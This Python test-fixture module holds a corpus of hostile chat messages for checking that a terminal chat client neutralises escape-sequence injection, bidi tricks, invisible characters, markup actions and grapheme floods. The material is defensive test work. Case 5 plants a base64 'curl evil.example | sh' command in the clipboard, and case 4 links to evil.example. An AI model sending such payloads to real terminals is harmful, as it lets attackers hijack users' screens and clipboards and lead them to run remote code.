"""The hostile-input corpus: message bodies written to attack a terminal chat client.

Each :class:`Case` is one class of attack on the promise that hostile text is
safe everywhere. A case carries

* ``body``: what a stranger sends;
* ``marker``: a plain word at the start of the body, so a test can find the
  message on screen (the rest of it is whatever the attack needs);
* ``kept``: plain text from the body that must still be visible in its safe form
  (a sanitiser that "fixes" a message by deleting it would fail here);
* ``leaks``: byte strings that would show up in the client's terminal output only
  if a control sequence from the body reached the terminal raw. Each starts at the
  attack's introducer and runs into the body's own text, so the app's own output
  (which is full of CSI sequences) can never match one by chance.

Bodies are plain ``str``; :data:`SENDABLE` are those a server can store (valid
UTF-8, at most 64 KiB). The 1 MB body and the lone surrogates are there for the
tests of what must be refused.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field

ESC = "\x1b"
BEL = "\x07"
ST = ESC + "\\"  # String Terminator (7-bit form)


@dataclass(frozen=True)
class Case:
    name: str
    marker: str
    body: str
    kept: tuple[str, ...] = ()
    leaks: tuple[str, ...] = ()
    sendable: bool = True
    allowed_invisible: frozenset[str] = field(default_factory=frozenset)
    """Characters ``str.isprintable()`` rejects that may stay in the safe form
    (the ZWJ inside an emoji family, the tag characters of a subdivision flag)."""

    def __repr__(self) -> str:  # pytest ids and failure messages: never the raw body
        return f"Case({self.name})"


def _case(number: int, name: str, attack: str, **kwargs: object) -> Case:
    marker = f"HX{number:02d}"
    return Case(name=name, marker=marker, body=f"{marker} {attack}", **kwargs)  # type: ignore[arg-type]


CASES: tuple[Case, ...] = (
    _case(
        1,
        "csi_colors",
        f"{ESC}[31mredtext{ESC}[0m {ESC}[1;44mboldblue{ESC}[0m {ESC}[38;2;255;0;0mtrue{ESC}[m",
        kept=("redtext", "boldblue", "[31m"),
        leaks=(f"{ESC}[31mredtext", f"{ESC}[1;44mboldblue", f"{ESC}[38;2;255;0;0mtrue"),
    ),
    _case(
        2,
        "csi_cursor_and_clear",
        f"{ESC}[2J{ESC}[Hhome {ESC}[10;10Hmoved {ESC}[3Aup {ESC}[5Dleft {ESC}[2Kerased "
        f"{ESC}[1;5rscroll {ESC}[Sscrolled",
        kept=("home", "moved", "erased"),
        leaks=(
            f"{ESC}[2J{ESC}[Hhome",
            f"{ESC}[10;10Hmoved",
            f"{ESC}[3Aup",
            f"{ESC}[5Dleft",
            f"{ESC}[2Kerased",
            f"{ESC}[1;5rscroll",
            f"{ESC}[Sscrolled",
        ),
    ),
    _case(
        3,
        "osc0_title",
        f"{ESC}]0;pwned title{BEL}after {ESC}]2;second title{ST}also",
        kept=("pwned title", "after"),
        leaks=(f"{ESC}]0;pwned", f"{ESC}]2;second"),
    ),
    _case(
        4,
        "osc8_hyperlink",
        f"{ESC}]8;;https://evil.example/steal{ST}innocent link{ESC}]8;;{ST} done",
        kept=("innocent link", "evil.example"),
        leaks=(f"{ESC}]8;;https://evil", f"{ESC}]8;;{ST} done"),
    ),
    _case(
        5,
        "osc52_clipboard",
        f"{ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo={BEL}copied {ESC}]52;c;?{BEL}query",
        kept=("copied", "Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo="),
        leaks=(f"{ESC}]52;c;Y3Vy", f"{ESC}]52;c;?"),
    ),
    _case(
        6,
        "dcs_and_sixel",
        f"{ESC}P1$r0m{ST}dcsreply {ESC}Pq#0;2;0;0;0#0~~@@{ST}sixel",
        kept=("dcsreply", "sixel"),
        leaks=(f"{ESC}P1$r0m", f"{ESC}Pq#0;2"),
    ),
    _case(
        7,
        "echo_back_queries",
        # DECRQSS, primary and secondary DA, cursor position report, window title
        # report, background colour query: each makes a terminal type an answer
        # into the app's input, as if the user had typed it.
        f"{ESC}P$qm{ST}decrqss {ESC}[cda1 {ESC}[>cda2 {ESC}[6ncpr {ESC}[21ttitle "
        f"{ESC}]11;?{BEL}bgquery",
        kept=("decrqss", "da1", "cpr", "bgquery"),
        leaks=(
            f"{ESC}P$qm",
            f"{ESC}[cda1",
            f"{ESC}[>cda2",
            f"{ESC}[6ncpr",
            f"{ESC}[21ttitle",
            f"{ESC}]11;?",
        ),
    ),
    _case(
        8,
        "mouse_and_paste_toggles",
        f"{ESC}[?1000hmouse {ESC}[?1003hall {ESC}[?1006hsgr {ESC}[?2004hpaste "
        f"{ESC}[200~fake paste{ESC}[201~ {ESC}[?1049lnoalt {ESC}[?25hcursor",
        kept=("mouse", "fake paste", "noalt"),
        leaks=(
            f"{ESC}[?1000hmouse",
            f"{ESC}[?1003hall",
            f"{ESC}[?1006hsgr",
            f"{ESC}[?2004hpaste",
            f"{ESC}[200~fake",
            f"{ESC}[?1049lnoalt",
            f"{ESC}[?25hcursor",
        ),
    ),
    _case(
        9,
        "c1_eight_bit",
        # 8-bit C1 controls: CSI, OSC, DCS, NEL, ST. Terminals that honour them treat
        # "\x9b31m" exactly like "ESC [31m".
        "\x9b31mcsi8 \x9d0;title8\x9c osc8bit \x90dcs8\x9c \x85nel \x9f apc",
        kept=("csi8", "title8", "nel"),
        leaks=("\x9b31mcsi8", "\x9d0;title8", "\x90dcs8", "\x85nel"),
    ),
    _case(
        10,
        "cr_overwrite",
        "innocent text\rFAKE",
        kept=("innocent text", "FAKE"),
        leaks=("\rFAKE",),
    ),
    _case(
        11,
        "bs_overwrite",
        "amount 100\b\b\b999 euros",
        kept=("amount 100", "999 euros"),
        leaks=("\b\b\b999",),
    ),
    _case(
        12,
        "other_c0_and_del",
        "bell\x07 nul\x00 vt\x0b ff\x0c so\x0e si\x0f del\x7f esc-alone\x1b end",
        kept=("bell", "esc-alone", "end"),
        leaks=("bell\x07", "nul\x00", "so\x0e", "del\x7f"),
    ),
    _case(
        13,
        "single_char_escapes",
        # RIS (full reset), DECSC/DECRC, DECALN (fill screen with E), keypad modes,
        # and the 7-bit forms of APC, PM and SOS.
        f"{ESC}creset {ESC}7save {ESC}8restore {ESC}#8align {ESC}=keypad "
        f"{ESC}_Gf=100;AAAA{ST}apc {ESC}^pm{ST}privacy {ESC}Xsos{ST}string",
        kept=("reset", "align", "apc", "privacy"),
        leaks=(
            f"{ESC}creset",
            f"{ESC}7save",
            f"{ESC}8restore",
            f"{ESC}#8align",
            f"{ESC}=keypad",
            f"{ESC}_Gf=100",
            f"{ESC}^pm",
            f"{ESC}Xsos",
        ),
    ),
    _case(
        14,
        "bidi_overrides",
        "invoice\u202efdp.exe \u202dltr-forced\u202c \u202aembed\u202c \u202bremb\u202c "
        "mark\u200e\u200f",
        kept=("invoice", "fdp.exe", "ltr-forced"),
        leaks=("\u202e", "\u202d", "\u202a", "\u202b", "\u202c", "\u200e", "\u200f"),
    ),
    _case(
        15,
        "bidi_isolates",
        "\u2066lri\u2069 \u2067rli\u2069 \u2068fsi\u2069 \u061calm",
        kept=("lri", "rli", "fsi", "alm"),
        leaks=("\u2066", "\u2067", "\u2068", "\u2069", "\u061c"),
    ),
    _case(
        16,
        "invisible_characters",
        "pay\u200bpal w\u2060j bom\ufeff mvs\u180e tags\U000e0001\U000e0041\U000e0042\U000e007f "
        "ascii\u200czwnj",
        kept=("pay", "pal", "tags"),
        leaks=("\u200b", "\u2060", "\ufeff", "\u180e", "\U000e0001", "\U000e0041", "\u200c"),
    ),
    _case(
        17,
        "line_and_paragraph_separators",
        "first\u2028second\u2029third",
        kept=("first", "second", "third"),
        leaks=("\u2028", "\u2029"),
    ),
    _case(
        18,
        "rich_markup_and_textual_actions",
        "[bold red]notbold[/] [@click=app.quit]clickme[/] [link=https://evil.example]l[/link] "
        "[reverse]rev[/reverse] \\[escaped]",
        kept=("[bold red]notbold[/]", "[@click=app.quit]clickme[/]", "[link=https://evil"),
    ),
    _case(
        19,
        "emoji_sequences_are_not_attacks",
        # Kept intact: the ZWJ inside the family and the tags inside England's flag.
        "family \U0001f468\u200d\U0001f469\u200d\U0001f467 flag "
        "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f ok",
        kept=("family", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "ok"),
        allowed_invisible=frozenset(
            {"\u200d", *(chr(cp) for cp in (0xE0067, 0xE0062, 0xE0065, 0xE006E, 0xE007F))}
        ),
    ),
    _case(
        20,
        "zalgo",
        "Z" + "\u0301\u0316\u0344\u0358" * 900 + "algo " + "e\u0300" * 10 + "\u0489" * 500 + " end",
        kept=("algo", "end"),
    ),
    _case(
        21,
        "long_single_line_60k",
        "start " + "abcdefghij" * 6_000 + " finish",
        kept=("start abcdefghij",),
    ),
    # Unbounded graphemes: each is one "character" to the layout (one or two cells)
    # that a terminal not joining it draws as thousands of cells, over the rest of
    # the screen. The safe form caps every such run.
    _case(
        23,
        "zwj_flood",
        "\U0001f468" + "\u200d\U0001f469" * 2000 + " end",
        kept=("\U0001f468\u200d\U0001f469", "end"),
        allowed_invisible=frozenset({"\u200d"}),
    ),
    _case(24, "skin_tone_flood", "\U0001f44d" + "\U0001f3fb" * 3000 + " end", kept=("end",)),
    _case(25, "spacing_mark_flood", "\u0915" + "\u0903" * 3000 + " end", kept=("\u0915", "end")),
    _case(26, "hangul_vowel_flood", "\u1100" + "\u1161" * 3000 + " end", kept=("\u1100", "end")),
    _case(
        27,
        "tag_flood",
        "\U0001f3f4" + "\U000e0067" * 3000 + " end",
        kept=("end",),
        allowed_invisible=frozenset({"\U000e0067"}),
    ),
    _case(
        22,
        "escape_inside_wide_text",
        f"日本語{ESC}[2J中文{ESC}]52;c;aGk={BEL}한국어 \U0001f600{ESC}[6n",
        kept=("日本語", "中文", "한국어"),
        leaks=(f"{ESC}[2J中文", f"{ESC}]52;c;aGk=", f"{ESC}[6n"),
    ),
)

OVERSIZE = _case(90, "one_megabyte_body", "x" * 1_000_000, kept=("xxxx",), sendable=False)
"""Over every server limit: the server answers 413 and the client must keep the text."""

LONE_SURROGATES = _case(
    91,
    "lone_surrogates",
    "high\ud800 low\udfff pair-halves\udbff\udc00?",
    kept=("high", "low"),
    sendable=False,
)
"""Not encodable as UTF-8: a client cannot even send them; a server's JSON can carry
them as ``\\ud800`` escapes, which must be refused (or made safe when displayed)."""

FROM_A_HOSTILE_SERVER = _case(
    93,
    "lone_surrogates_and_raw_controls_from_a_server",
    "SERVER-SIDE-PAYLOAD",
    kept=("\ufffd",),
    leaks=(f"x{ESC}]52;c;aGk={BEL}y", "\x9b6nz"),
)
"""The reference server refuses what this case needs (lone surrogates), so a proxy
in front of it rewrites ``SERVER_SIDE_PAYLOAD`` into ``SERVER_SIDE_JSON`` on the
way to the client, as a careless or hostile server would send it."""
SERVER_SIDE_PAYLOAD = b"SERVER-SIDE-PAYLOAD"
SERVER_SIDE_JSON = b"high\\ud800 low\\udfff x\\u001b]52;c;aGk=\\u0007y \\u009b6nz"


def as_received_from_a_hostile_server(case: Case) -> str:
    """The body the client decodes once the proxy has rewritten it."""
    payload = SERVER_SIDE_PAYLOAD.decode()
    return case.body.replace(payload, json.loads(f'"{SERVER_SIDE_JSON.decode()}"'))


HOSTILE_TITLE = f"HXT {ESC}]0;owned{BEL}\u202e[@click=app.quit]title[/]{ESC}[2J\x9b6n"
"""A thread title (the list and the header show it): at most 200 characters."""
HOSTILE_TITLE_LEAKS = (f"{ESC}]0;owned", f"{ESC}[2J", "\u202e", "\x9b6n")

SENDABLE = tuple(case for case in CASES if case.sendable)
ALL = (*CASES, OVERSIZE, LONE_SURROGATES, FROM_A_HOSTILE_SERVER)

# Sequences chatui (Textual) itself never writes to a terminal at any point, so they
# must not appear in its output at all, before or after the hostile messages.
NEVER_EMITTED = (
    f"{ESC}]52;",  # clipboard
    f"{ESC}]8;",  # hyperlink
    f"{ESC}]0;",  # window title
    f"{ESC}]2;",
    f"{ESC}P",  # DCS (DECRQSS, sixel)
    f"{ESC}[c",  # primary DA query
    f"{ESC}[>c",
    f"{ESC}[6n",  # cursor position report
    f"{ESC}[21t",  # title report
    f"{ESC}c",  # full reset
)
